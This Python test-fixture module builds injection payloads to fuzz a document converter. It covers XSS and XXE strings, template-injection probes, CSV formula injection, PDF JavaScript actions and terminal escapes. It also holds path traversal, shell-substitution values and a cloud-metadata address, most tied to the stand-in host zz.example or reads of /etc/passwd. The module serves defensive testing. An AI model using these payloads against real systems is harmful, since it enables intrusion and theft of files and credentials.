"""Texts that would do harm where they were taken for anything but text.

Each is text alone to newsconv. They are made by joining parts: what closes the place
that a text stands in, then what would act if that place was left. Whatever is told of
them names `zz`, so that a test can look for what should not have come to be.
"""

from collections.abc import Iterator
from itertools import product

CLOSERS = (
    "",
    '">',
    "'>",
    "`>",
    "</p>",
    "</title>",
    "</style>",
    "</script>",
    "</SCRIPT >",
    "</textarea>",
    "</noscript>",
    "</svg>",
    "-->",
    "--!>",
    "]]>",
    "?>",
    "%}",
    "}}",
    "\x00",
    "&quot;&gt;",
)

ELEMENTS = (
    "<script>zz()</script>",
    "<ScRiPt src=//zz.example/a.js></sCrIpT>",
    "<img src=x onerror=zz()>",
    "<svg/onload=zz()>",
    '<svg><a xlink:href="javascript:zz()"><text>zz</text></a></svg>',
    "<iframe src=javascript:zz()></iframe>",
    '<object data="file:///etc/passwd"></object>',
    "<embed src=//zz.example>",
    '<link rel=stylesheet href="//zz.example/a.css">',
    "<style>@import '//zz.example/a.css'</style>",
    "<meta http-equiv=refresh content='0;url=//zz.example'>",
    "<base href=//zz.example/>",
    "<form action=//zz.example><input name=zz autofocus onfocus=zz()>",
    "<details open ontoggle=zz()>",
    "<math><mtext><zz></mtext></math>",
    "<template><zz></template>",
    "<!-- zz",
    "<![CDATA[<zz>",
    "<!DOCTYPE zz [<!ENTITY zz SYSTEM 'file:///etc/passwd'>]>&zz;",
    "<?xml-stylesheet href='//zz.example/a.xsl'?>",
    "<?php zz(); ?>",
    "<zz:element xmlns:zz='urn:zz'/>",
    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='/etc/passwd'/>",
    "<a href='jav&#x09;ascript:zz()'>zz</a>",
    "<plaintext>",
    "<!--#exec cmd='zz' -->",
)
"""HTML, SVG, MathML and XML."""

ATTRIBUTES = (
    '" onmouseover="zz()',
    "' onfocus='zz()' autofocus='",
    '" style="background:url(//zz.example)',
    '" zz="zz',
    "` onload=`zz()",
    '"/><zz a="',
    "&#34; onclick=zz() &#34;",
)

STYLES = (
    "} body { background: url(//zz.example/zz) } zz {",
    "; behavior: url(//zz.example/zz.htc);",
    '"; } @import url(//zz.example/zz.css); .zz { content: "',
    "*/ body { display: none } /*",
    "\\3c script\\3e zz()\\3c /script\\3e",
    "expression(zz())",
    "url('javascript:zz()')",
    "</style><zz>",
    "@font-face { font-family: zz; src: url(//zz.example/zz.woff) }",
)
"""CSS."""

PACKAGES = (
    "</dc:title><dc:creator>zz</dc:creator><dc:title>",
    "</metadata><manifest><item id='zz' href='../../zz'/></manifest>",
    '<meta property="zz:role">zz</meta>',
    "</navLabel><content src='zz.xhtml'/>",
    "<itemref idref='zz'/>",
    "</x:xmpmeta><zz/>",
    "<?xpacket end='w'?>",
    "<?xpacket begin='' id='zz'?>",
    "</rdf:li><rdf:li>zz</rdf:li>",
    "</rdf:Description><rdf:Description zz:zz='zz' xmlns:zz='urn:zz'>",
    "<pdfaid:part>9</pdfaid:part>",
    ") /S /JavaScript /JS (zz()) (",
    ">> /OpenAction << /S /Launch /F (zz) >>",
    "\\) Tj ET Q endstream endobj",
    "%PDF-1.7 %%EOF",
    "<FEFF007A007A>",
)
"""OPF, NCX, XMP, and PDF's own marks."""

DATA = (
    '","zz":"zz',
    '"}],"zz":[{"zz":"',
    '\\","zz":"zz',
    "\\u0022,\\u0022zz\\u0022:1",
    '</script><script type="application/ld+json">{"zz":1}',
    '{"@type":"zz","@context":"//zz.example"}',
    '"__proto__":{"zz":1}',
    "<!--<script>",
    "\u2028zz()\u2029",
    '\n{"type":"digest","zz":1}\n',
    "NaN",
    "1e999",
)
"""JSON, JSON-LD and JSON lines."""

TEMPLATES = (
    "{{ 7*7 }}zz",
    "{{ ''.__class__.__mro__ }}zz",
    "{% include '/etc/passwd' %}zz",
    "{% for a in range(9**9) %}zz{% endfor %}",
    "{# zz #}",
    "${7*7}zz",
    "<%= 7*7 %>zz",
    '#read("/etc/passwd")zz',
    '#import "@preview/zz:1.0.0": *',
    "#{ while true {} }zz",
    "#panic()zz",
    "$ zz $",
    "@zz",
    "<zz>",
    "{0.__class__}zz",
    "%s%n%zz",
)
"""Jinja, Typst, and Python's ways to fill a text."""

FORMULAS = (
    "=1+1+cmd|' /C zz'!A0",
    "+1+zz",
    "-1+zz",
    "@SUM(1+zz)",
    "\t=zz()",
    "\r=zz()",
    "\n=zz()",
    '=HYPERLINK("//zz.example","zz")',
    '=IMPORTXML("//zz.example","//zz")',
    "=zz|' '!A1",
    '","=zz()',
    "';=zz()",
    "＝zz()",
    "＋zz",
    "－zz",
    "＠zz",
)
"""Spreadsheets."""

TERMINALS = (
    "\x1b[2Jzz",
    "\x1b]0;zz\x07",
    "\x1b]8;;//zz.example\x1b\\zz\x1b]8;;\x1b\\",
    "\x1b]52;c;enp6\x07",
    "\x1bP$qzz\x1b\\",
    "\x1b[?1049hzz",
    "\x1b[31mzz",
    "\x9b2Jzz",
    "\x9d0;zz\x9c",
    "\x90zz\x9c",
    "zz\x08\x08\x7f",
    "zz\rzz",
    "zz\x0bzz\x0czz",
    "\x07zz",
    "[bold red]zz[/]",
    "[link=//zz.example]zz[/link]",
)
"""Terminals, and rich's marks."""

NAMES = (
    "../../../../tmp/zz",
    "..\\..\\zz",
    "/etc/zz",
    "C:\\zz",
    "\\\\zz\\zz",
    "file:///etc/zz",
    "CON",
    "con.txt",
    "NUL",
    "aux.html",
    "COM1",
    "lpt9.epub",
    "zz.",
    "zz ",
    ".zz",
    "..",
    ".",
    "-zz",
    "~/zz",
    "zz:zz",
    "zz\x00.html",
    "zz|zz",
    "mimetype",
    "META-INF/container.xml",
    "index.html",
    "content.opf",
    "digest.json",
    "z" * 300,
    "%2e%2e%2fzz",
    "..%c0%af..%c0%afzz",
    "$(zz)",
    "`zz`",
    "; zz",
)
"""Files and zip entries."""

ADDRESSES = (
    "javascript:zz()",
    "JaVaScRiPt:zz()",
    "java\nscript:zz()",
    " javascript:zz()",
    "\x01javascript:zz()",
    "javascript&colon;zz()",
    "vbscript:zz()",
    "data:text/html,<script>zz()</script>",
    "data:text/html;base64,PHNjcmlwdD56eigpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=zz()>",
    "file:///etc/passwd",
    "//zz.example/zz",
    "\\\\zz.example\\zz",
    'http://zz.example/" onclick="zz()',
    "http://zz.example/'><zz>",
    "https://zz@zz.example:99999/",
    "http://[::1/zz",
    "mailto:zz@zz.example?body=<zz>",
    "blob:zz",
    "about:blank#zz",
    "view-source:zz",
    "#zz",
    "?zz=<zz>",
    "http://169.254.169.254/zz",
)
"""What a link or a picture may lead to."""

LETTERS = (
    "\u202ezz\u202c",
    "\u2066zz\u2069",
    "zz\u200b\u200c\u200d\u2060zz",
    "\ufeffzz",
    "\u00adzz",
    "zz\ufffe\uffff",
    "\U000e0041\U000e0042zz",
    "zz" + "\u0301" * 200,
    "\u0430\u0440\u0440\u04cf\u0435zz",
    "zz\ufdd0",
    "\u0085zz\u2028zz",
    "\u200f\u200ezz",
    "\U0001f3f4zz\ufe0f",
    "zz\ud7ff\ue000",
    "\x7fzz\x80",
)
"""Letters that are not seen, turn the line round, or are none."""


def _written_twice(text: str) -> str:
    """Return a text so that a second decoding would undo it."""
    written = text.replace("<", "&lt;").replace('"', "&quot;")
    return written.replace("%", "%25") if written == text else written


WAYS = (str, _written_twice)


def _all() -> Iterator[str]:
    yield from map("".join, product(CLOSERS, ELEMENTS))
    inserts = (*STYLES, *PACKAGES, *DATA, *TEMPLATES)
    yield from map("".join, product(CLOSERS[:12], inserts))
    yield from map("".join, product(CLOSERS[:4], ATTRIBUTES))
    for each in (*ADDRESSES, *FORMULAS, *TERMINALS, *NAMES, *LETTERS):
        yield from (each, f"a {each}", f"{each} b")


def payloads() -> tuple[str, ...]:
    """Return all, each once, in an order of their own."""
    plain = dict.fromkeys(way(each) for each in _all() for way in WAYS)
    return tuple(plain)
